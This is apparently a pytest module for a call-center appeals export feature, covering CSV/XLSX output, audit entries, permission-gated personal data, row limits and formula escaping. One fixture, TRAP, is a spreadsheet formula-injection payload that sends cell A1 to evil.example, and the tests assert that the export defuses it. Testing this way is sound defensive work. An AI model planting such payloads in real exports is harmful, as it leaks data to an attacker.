"""Appeals as a file: what is in it for whom, that it is audited, and that it is no trap."""

import csv
import io
import re
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from datetime import UTC, datetime

import httpx
import pytest
from fastapi import FastAPI
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from callcenter.appeals.calls.service import REASON_LIMIT
from callcenter.appeals.permissions import AppealPermission
from callcenter.appeals.search.export import escape_formula
from callcenter.platform.identity.permissions import Role
from callcenter.platform.storage.engine import unit_of_work
from tests.services import changed
from tests.web.browser import form_token, visible
from tests.web.conftest import CALLER, Call, Enter, open_call
from tests.web.test_record_api import STATEMENT, api, authorized, change
from tests.web.test_records import IDENTIFIER
from tests.web.test_records import rows as rows_of

assert api  # the fixture, which tests ask for by its name

TRAP = '=HYPERLINK("http://evil.example/?"&A1)'
CHILD = {
    "affected1.person_kind": "child",
    "affected1.name": "Тимур Оспанов",
    "affected2.name": "@Анна",
}
WHOLE = {"kind": "statement", "content": STATEMENT["content"] | CHILD | {"content": TRAP}}
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def of_csv(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def of_xlsx(answer: httpx.Response) -> list[dict[str, str]]:
    """The rows; a formula or a link in it fails the test."""
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))  # noqa: S314
    assert sheet.find(f".//{SHEET}f") is None
    assert sheet.find(f".//{SHEET}hyperlink") is None
    rows = []
    for row in sheet.iter(f"{SHEET}row"):
        cells = {
            re.sub(r"\d", "", str(cell.get("r"))): "".join(cell.itertext())
            for cell in row.iter(f"{SHEET}c")
        }
        rows.append(cells)
    names = rows[0]
    return [{name: row.get(at, "") for at, name in names.items()} for row in rows[1:]]


async def take(client: httpx.AsyncClient, **requested: str) -> httpx.Response:
    client.headers["Accept-Language"] = "ru"
    return await client.get("/api/v1/search/export", params=requested)


@pytest.fixture
async def saved(api: httpx.AsyncClient, call: Call) -> str:
    assert (await change(api, call.number, 0, WHOLE)).status_code == 200
    return call.number


@asynccontextmanager
async def without_personal(enter: Enter) -> AsyncIterator[httpx.AsyncClient]:
    async with enter(Role.CONSULTANT) as client:
        assert Role.CONSULTANT not in AppealPermission.EXPORT_PERSONAL.granted_to
        yield client


async def test_the_file_holds_results_in_the_users_language(
    api: httpx.AsyncClient, saved: str
) -> None:
    requested = {"stage": "contact", "personal": "true"}
    as_csv, as_xlsx = await take(api, **requested), await take(api, format="xlsx", **requested)
    [row], [same] = of_csv(as_csv), of_xlsx(as_xlsx)
    assert row["Номер"] == same["Номер"] == saved
    assert row["Поступило"] == "2026-11-24 14:05:09"  # Asia/Almaty
    assert row["Вид"] == "Заявление"
    assert row["Заявитель: ИИН или БИН"] == IDENTIFIER
    assert same["Номер звонившего"] == "+7 701 *** ** 67"
    affected = next(key for key in row if key.startswith("Пострадавш") and "мя" in key)
    assert row[affected] == "Тимур Оспанов | @Анна"
    # Nothing is a formula: CSV has an apostrophe before it, XLSX knows it for a text.
    assert row["Суть обращения"] == "'" + TRAP
    assert row["Номер звонившего"] == "'+7 701 *** ** 67"
    assert same["Суть обращения"] == TRAP
    assert re.fullmatch(
        r'attachment; filename="appeals-[\d-]+\.xlsx"', as_xlsx.headers["content-disposition"]
    )


async def test_a_file_has_whole_numbers_for_an_audited_reason(
    api: httpx.AsyncClient, saved: str, engine: AsyncEngine
) -> None:
    requested = {"stage": "contact", "personal": "true", "format": "xlsx"}
    [row] = of_xlsx(await take(api, **requested, why_numbers="Запрос самого заявителя"))
    assert (row["Номер"], row["Номер звонившего"]) == (saved, CALLER)
    found = "SELECT subject, detail FROM audit_entry WHERE action = 'web:numbers:listed'"
    reason = {"numbers": 1, "reason": "Запрос самого заявителя"}
    assert await rows_of(engine, found) == [("export", reason)]
    await take(api, stage="contact", why_numbers="Без личных данных их нет вовсе")
    assert len(await rows_of(engine, found)) == 1


async def test_without_the_permission_no_personal_data_are_taken(
    enter: Enter, saved: str, engine: AsyncEngine
) -> None:
    async with without_personal(enter) as client:
        refused = await take(client, stage="contact", personal="true")
        assert refused.status_code == 403
        for form in ("csv", "xlsx"):
            answer = await take(client, stage="contact", format=form)
            [row] = of_csv(answer) if form == "csv" else of_xlsx(answer)
            said = str(row)
            assert saved in said
            for personal in (IDENTIFIER, CALLER, "Сейтова", "Тимур", "Анна", "HYPERLINK"):
                assert personal not in said, personal
    async with unit_of_work(engine) as connection:
        query = "SELECT detail FROM audit_entry WHERE action = 'web:appeals:exported'"
        details = list((await connection.execute(text(query))).scalars())
    assert [each["format"] for each in details] == ["csv", "xlsx"]


async def test_an_export_is_audited_without_its_search_words(
    api: httpx.AsyncClient, saved: str, engine: AsyncEngine
) -> None:
    await take(api, q="Сейтова", region="710000000", since="2026-11-01", personal="true")
    async with unit_of_work(engine) as connection:
        query = "SELECT who, detail FROM audit_entry WHERE action = 'web:appeals:exported'"
        [(who, detail)] = (await connection.execute(text(query))).all()
    assert who.startswith("user:head-")
    assert detail == {
        "words": 1,
        "region": "710000000",
        "since": "2026-11-01T00:00:00+05:00",
        "rows": 0,
        "personal": True,
        "format": "csv",
    }


def set_limit(app: FastAPI, rows: int) -> None:
    site = app.state.site
    app.state.site = replace(site, settings=changed(site.settings, export_limit=rows))


async def test_more_than_fits_is_refused_before_anything_is_taken(
    app: FastAPI, api: httpx.AsyncClient, saved: str, engine: AsyncEngine
) -> None:
    await open_call(engine, "call-2", datetime(2026, 11, 24, tzinfo=UTC))
    requested = {"since": "2026-11-01"}
    set_limit(app, 2)
    assert len(of_csv(await take(api, **requested))) == 2
    set_limit(app, 1)
    refused = await take(api, **requested)
    assert (refused.status_code, "more than 1" in refused.json()["detail"]) == (400, True)
    assert (await take(api)).status_code == 400  # no question: not the whole register by a slip
    token = await form_token(api, "/search")
    page = await api.post(
        "/search/export", params=requested, data={"form_token": token, "format": "csv"}
    )
    assert (page.status_code, "больше 1" in visible(page.text)) == (400, True)


async def test_a_refused_file_says_why_with_what_was_ticked(
    head: httpx.AsyncClient, saved: str
) -> None:
    token, long = await form_token(head, "/search"), "я" * (REASON_LIMIT + 1)
    head.headers["accept-language"] = "en"
    del head.headers["x-form-token"]  # as a browser without scripts, whose form is read first
    sent = {"form_token": token, "format": "csv", "personal": "true", "why_numbers": long}
    refused = await head.post("/search/export", params={"stage": "contact"}, data=sent)
    assert refused.status_code == 400
    assert "in up to 500 characters" in visible(refused.text)
    assert 'name="personal" value="true" checked' in refused.text
    assert f'value="{long}"' in refused.text
    refused = await head.post("/search/export", data=sent)
    assert "say which appeals the file should have" in visible(refused.text)


async def test_rows_come_whole_over_many_readings(
    api: httpx.AsyncClient, engine: AsyncEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("callcenter.appeals.search.export.SEARCH_BATCH", 3)
    monkeypatch.setattr("callcenter.appeals.search.export.READ_BATCH", 2)
    numbers = {
        (await open_call(engine, f"call-{n}", datetime(2026, 11, 24, 9, n, tzinfo=UTC)))[1]
        for n in range(7)
    }
    for rows in (
        of_csv(await take(api, since="2026-11-01")),
        of_xlsx(await take(api, since="2026-11-01", format="xlsx")),
    ):
        assert len(rows) == 7
        assert {row["Номер"] for row in rows} == numbers


async def test_the_export_leaves_nothing_plain_on_the_disk(
    app: FastAPI, api: httpx.AsyncClient, enter: Enter, saved: str
) -> None:
    page = (await api.get("/search", params={"stage": "contact"})).text
    action = re.search(r'action="(/search/export\?[^"]+)"', page)
    assert action is not None
    assert 'name="personal"' in page
    sent = {"form_token": await form_token(api, "/search"), "format": "xlsx", "personal": "true"}
    taken = await api.post(action[1].replace("&amp;", "&"), data=sent)
    assert taken.status_code == 200
    assert len(of_xlsx(taken)) == 1
    assert list((app.state.site.settings.exports).iterdir()) == []
    async with without_personal(enter) as client:
        other = (await client.get("/search", params={"stage": "contact"})).text
        assert 'name="format"' in other
        assert 'name="personal"' not in other
        await authorized(client)
        client.headers["X-Form-Token"] = (await client.get("/api/v1/session")).json()["form_token"]
        forced = await client.post(action[1].replace("&amp;", "&"), data=sent)
        assert forced.status_code == 403


@given(st.text(max_size=20))
def test_no_cell_is_taken_for_a_formula(cell: str) -> None:
    stored = escape_formula(cell)
    assert not stored.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert stored in (cell, f"'{cell}")
